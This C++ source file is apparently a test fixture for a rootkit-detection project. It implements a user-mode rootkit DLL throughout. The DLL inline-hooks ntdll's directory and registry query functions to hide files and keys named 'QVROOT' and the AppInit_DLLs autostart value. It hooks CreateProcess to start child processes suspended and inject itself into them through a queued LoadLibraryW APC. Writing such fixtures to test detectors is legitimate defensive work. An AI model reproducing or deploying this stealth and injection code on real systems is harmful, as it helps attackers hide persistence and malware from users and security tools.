// A test-only hider, never shipped, of the kind real user-mode rootkits are:
// loaded into a process, it patches NtQueryDirectoryFile inside ntdll itself
// (an inline jump, not an import table), so that every directory query of the
// process drops the entries whose names start with "QVROOT" (any case); it
// does the same to the registry's NtEnumerateValueKey, NtEnumerateKey and
// NtQueryValueKey, for values and keys named "QVROOT..." and for the value
// AppInit_DLLs (the autostart entry such a program hides first); and it
// follows the process's children: each is started suspended, gets this DLL
// queued as an early APC, and is resumed, so the hider is in it before its
// first instruction. The NT directory query is then blind in every process
// that descends from one it was loaded into.
#include <windows.h>

#include <algorithm>
#include <cstring>
#include <vector>

#include "ImportPatch.h"

namespace {

constexpr wchar_t kMarker[] = L"QVROOT";
constexpr std::size_t kMarkerLength = 6;
constexpr LONG kStatusSuccess = 0;
constexpr LONG kStatusNoMoreFiles = static_cast<LONG>(0x80000006);
constexpr std::size_t kStubSize = 32;  // the syscall stubs of Wine's ntdll

using QueryDirectoryFile = LONG(NTAPI*)(HANDLE, HANDLE, void*, void*, void*, void*, ULONG, int, BOOLEAN, void*,
                                        BOOLEAN);
QueryDirectoryFile original_query = nullptr;
using EnumerateKey = LONG(NTAPI*)(HANDLE, ULONG, ULONG, void*, ULONG, ULONG*);
using QueryValueKey = LONG(NTAPI*)(HANDLE, const void*, ULONG, void*, ULONG, ULONG*);
EnumerateKey original_enumerate_value = nullptr;
EnumerateKey original_enumerate_key = nullptr;
QueryValueKey original_query_value = nullptr;
HMODULE self = nullptr;

struct IoStatus {
  LONG status;
  ULONG_PTR information;
};

// Where a directory entry keeps its name, by information class.
bool NameField(int info_class, std::size_t& length_at, std::size_t& name_at) {
  switch (info_class) {
    case 1: length_at = 60; name_at = 64; return true;    // FileDirectoryInformation
    case 2: length_at = 60; name_at = 68; return true;    // FileFullDirectoryInformation
    case 3: length_at = 60; name_at = 94; return true;    // FileBothDirectoryInformation
    case 12: length_at = 8; name_at = 12; return true;    // FileNamesInformation
    case 37: length_at = 60; name_at = 104; return true;  // FileIdBothDirectoryInformation
    case 38: length_at = 60; name_at = 80; return true;   // FileIdFullDirectoryInformation
    case 60: length_at = 60; name_at = 88; return true;   // FileIdExtdDirectoryInformation
    default: return false;
  }
}

bool Marked(const BYTE* entry, std::size_t length_at, std::size_t name_at) {
  ULONG length = 0;
  std::memcpy(&length, entry + length_at, sizeof(length));
  if (length < kMarkerLength * sizeof(wchar_t)) return false;
  wchar_t start[kMarkerLength];
  std::memcpy(start, entry + name_at, sizeof(start));
  return _wcsnicmp(start, kMarker, kMarkerLength) == 0;
}

// Drops the marked entries from a filled buffer; returns the bytes kept.
std::size_t DropMarked(BYTE* buffer, int info_class) {
  std::size_t length_at = 0, name_at = 0;
  if (!NameField(info_class, length_at, name_at)) return SIZE_MAX;
  std::vector<std::pair<std::size_t, std::size_t>> kept;  // offset, length of each kept entry
  std::size_t at = 0;
  for (;;) {
    ULONG next = 0;
    std::memcpy(&next, buffer + at, sizeof(next));
    ULONG name_length = 0;
    std::memcpy(&name_length, buffer + at + length_at, sizeof(name_length));
    const std::size_t length = next != 0 ? next : name_at + name_length;
    if (!Marked(buffer + at, length_at, name_at)) kept.emplace_back(at, length);
    if (next == 0) break;
    at += next;
  }
  std::vector<BYTE> packed;
  for (std::size_t i = 0; i < kept.size(); ++i) {
    const std::size_t start = packed.size();
    packed.insert(packed.end(), buffer + kept[i].first, buffer + kept[i].first + kept[i].second);
    packed.resize((packed.size() + 7) & ~std::size_t{7});
    const ULONG next = i + 1 < kept.size() ? static_cast<ULONG>(packed.size() - start) : 0;
    std::memcpy(packed.data() + start, &next, sizeof(next));
  }
  std::memcpy(buffer, packed.data(), packed.size());
  return kept.empty() ? 0 : packed.size();
}

LONG NTAPI HiddenQueryDirectoryFile(HANDLE file, HANDLE event, void* apc, void* context, void* io, void* buffer,
                                    ULONG length, int info_class, BOOLEAN single, void* mask, BOOLEAN restart) {
  for (;;) {
    const LONG status = original_query(file, event, apc, context, io, buffer, length, info_class, single, mask, restart);
    if (status != kStatusSuccess) return status;
    const std::size_t kept = DropMarked(static_cast<BYTE*>(buffer), info_class);
    if (kept == SIZE_MAX) return status;
    if (kept > 0) {
      static_cast<IoStatus*>(io)->information = kept;
      return status;
    }
    restart = FALSE;  // every entry was marked: the next ones, as if they were the first
    if (status == kStatusNoMoreFiles) return status;
  }
}

// Jumps from the start of an ntdll syscall stub to `hook`; the stub's own
// bytes run from a copy, which is returned (nullptr when the stub is not the
// kind this was written for).
void* PatchNtdll(const char* name, void* hook) {
  auto* target = reinterpret_cast<BYTE*>(reinterpret_cast<void*>(GetProcAddress(GetModuleHandleA("ntdll.dll"), name)));
  // The copy is only a faithful trampoline for the syscall stub this was written for.
  if (target == nullptr || target[0] != 0x4c || target[1] != 0x8b || target[2] != 0xd1 || target[3] != 0xb8) return nullptr;
  auto* trampoline = static_cast<BYTE*>(VirtualAlloc(nullptr, kStubSize, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE));
  std::memcpy(trampoline, target, kStubSize);
  BYTE jump[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0};  // mov rax, hook; jmp rax
  const auto address = reinterpret_cast<ULONG_PTR>(hook);
  std::memcpy(jump + 2, &address, sizeof(address));
  DWORD old = 0;
  VirtualProtect(target, sizeof(jump), PAGE_EXECUTE_READWRITE, &old);
  std::memcpy(target, jump, sizeof(jump));
  VirtualProtect(target, sizeof(jump), old, &old);
  FlushInstructionCache(GetCurrentProcess(), target, sizeof(jump));
  return trampoline;
}

// A registry name is hidden when it starts with the marker or is AppInit_DLLs.
bool MarkedRegistryName(const wchar_t* name, std::size_t bytes) {
  const std::size_t length = bytes / sizeof(wchar_t);
  if (length >= kMarkerLength && _wcsnicmp(name, kMarker, kMarkerLength) == 0) return true;
  constexpr wchar_t kAppInit[] = L"AppInit_DLLs";
  return length == 12 && _wcsnicmp(name, kAppInit, 12) == 0;
}

constexpr LONG kStatusBufferOverflow = static_cast<LONG>(0x80000005);
constexpr LONG kStatusObjectNameNotFound = static_cast<LONG>(0xC0000034);

// Index `index` of the entries that are not hidden: the real entries are
// walked by their basic information (name length at `length_at`, name at
// `name_at`), the hidden ones skipped, and the caller's query asked of the
// real index that answers.
LONG EnumerateUnmarked(EnumerateKey original, HANDLE key, ULONG index, ULONG info_class, void* info, ULONG length,
                       ULONG* result, std::size_t length_at, std::size_t name_at) {
  std::vector<BYTE> basic(65600);
  ULONG seen = 0;
  for (ULONG real = 0;; ++real) {
    ULONG got = 0;
    const LONG status = original(key, real, 0, basic.data(), static_cast<ULONG>(basic.size()), &got);
    if (status < 0 && status != kStatusBufferOverflow) return status;
    ULONG name_bytes = 0;
    std::memcpy(&name_bytes, basic.data() + length_at, sizeof(name_bytes));
    name_bytes = static_cast<ULONG>(std::min<std::size_t>(name_bytes, basic.size() - name_at));
    if (MarkedRegistryName(reinterpret_cast<const wchar_t*>(basic.data() + name_at), name_bytes)) continue;
    if (seen++ == index) return original(key, real, info_class, info, length, result);
  }
}

LONG NTAPI HiddenEnumerateValueKey(HANDLE key, ULONG index, ULONG info_class, void* info, ULONG length, ULONG* result) {
  // KEY_VALUE_BASIC_INFORMATION: TitleIndex, Type, NameLength, Name.
  return EnumerateUnmarked(original_enumerate_value, key, index, info_class, info, length, result, 8, 12);
}

LONG NTAPI HiddenEnumerateKey(HANDLE key, ULONG index, ULONG info_class, void* info, ULONG length, ULONG* result) {
  // KEY_BASIC_INFORMATION: LastWriteTime, TitleIndex, NameLength, Name.
  return EnumerateUnmarked(original_enumerate_key, key, index, info_class, info, length, result, 12, 16);
}

struct CountedName {
  USHORT length;
  USHORT maximum;
  const wchar_t* buffer;
};

LONG NTAPI HiddenQueryValueKey(HANDLE key, const void* name, ULONG info_class, void* info, ULONG length, ULONG* result) {
  const auto* counted = static_cast<const CountedName*>(name);
  if (counted != nullptr && counted->buffer != nullptr && MarkedRegistryName(counted->buffer, counted->length))
    return kStatusObjectNameNotFound;
  return original_query_value(key, name, info_class, info, length, result);
}

void PatchAll() {
  original_query = reinterpret_cast<QueryDirectoryFile>(
      PatchNtdll("NtQueryDirectoryFile", reinterpret_cast<void*>(&HiddenQueryDirectoryFile)));
  original_enumerate_value = reinterpret_cast<EnumerateKey>(
      PatchNtdll("NtEnumerateValueKey", reinterpret_cast<void*>(&HiddenEnumerateValueKey)));
  original_enumerate_key =
      reinterpret_cast<EnumerateKey>(PatchNtdll("NtEnumerateKey", reinterpret_cast<void*>(&HiddenEnumerateKey)));
  original_query_value =
      reinterpret_cast<QueryValueKey>(PatchNtdll("NtQueryValueKey", reinterpret_cast<void*>(&HiddenQueryValueKey)));
}

// Queues LoadLibraryW of this DLL to a child's first thread, which is still
// suspended: it runs before the child's own code.
void FollowInto(const PROCESS_INFORMATION& child) {
  wchar_t path[MAX_PATH];
  const DWORD length = GetModuleFileNameW(self, path, MAX_PATH);
  const std::size_t bytes = (length + 1) * sizeof(wchar_t);
  void* remote = VirtualAllocEx(child.hProcess, nullptr, bytes, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
  if (remote == nullptr) return;
  WriteProcessMemory(child.hProcess, remote, path, bytes, nullptr);
  const auto load = reinterpret_cast<PAPCFUNC>(
      reinterpret_cast<void*>(GetProcAddress(GetModuleHandleA("kernel32.dll"), "LoadLibraryW")));
  QueueUserAPC(load, child.hThread, reinterpret_cast<ULONG_PTR>(remote));
}

BOOL WINAPI FollowingCreateProcessA(LPCSTR application, LPSTR command, LPSECURITY_ATTRIBUTES process_security,
                                    LPSECURITY_ATTRIBUTES thread_security, BOOL inherit, DWORD flags, LPVOID environment,
                                    LPCSTR folder, LPSTARTUPINFOA startup, LPPROCESS_INFORMATION info) {
  if (!CreateProcessA(application, command, process_security, thread_security, inherit, flags | CREATE_SUSPENDED,
                      environment, folder, startup, info)) {
    return FALSE;
  }
  FollowInto(*info);
  if ((flags & CREATE_SUSPENDED) == 0) ResumeThread(info->hThread);
  return TRUE;
}

BOOL WINAPI FollowingCreateProcessW(LPCWSTR application, LPWSTR command, LPSECURITY_ATTRIBUTES process_security,
                                    LPSECURITY_ATTRIBUTES thread_security, BOOL inherit, DWORD flags, LPVOID environment,
                                    LPCWSTR folder, LPSTARTUPINFOW startup, LPPROCESS_INFORMATION info) {
  if (!CreateProcessW(application, command, process_security, thread_security, inherit, flags | CREATE_SUSPENDED,
                      environment, folder, startup, info)) {
    return FALSE;
  }
  FollowInto(*info);
  if ((flags & CREATE_SUSPENDED) == 0) ResumeThread(info->hThread);
  return TRUE;
}

}  // namespace

BOOL WINAPI DllMain(HINSTANCE instance, DWORD reason, LPVOID) {
  if (reason == DLL_PROCESS_ATTACH) {
    self = instance;
    PatchAll();
    quarvel::testing::PatchMainImports({{"CreateProcessA", reinterpret_cast<void*>(&FollowingCreateProcessA)},
                                        {"CreateProcessW", reinterpret_cast<void*>(&FollowingCreateProcessW)}});
  }
  return TRUE;
}
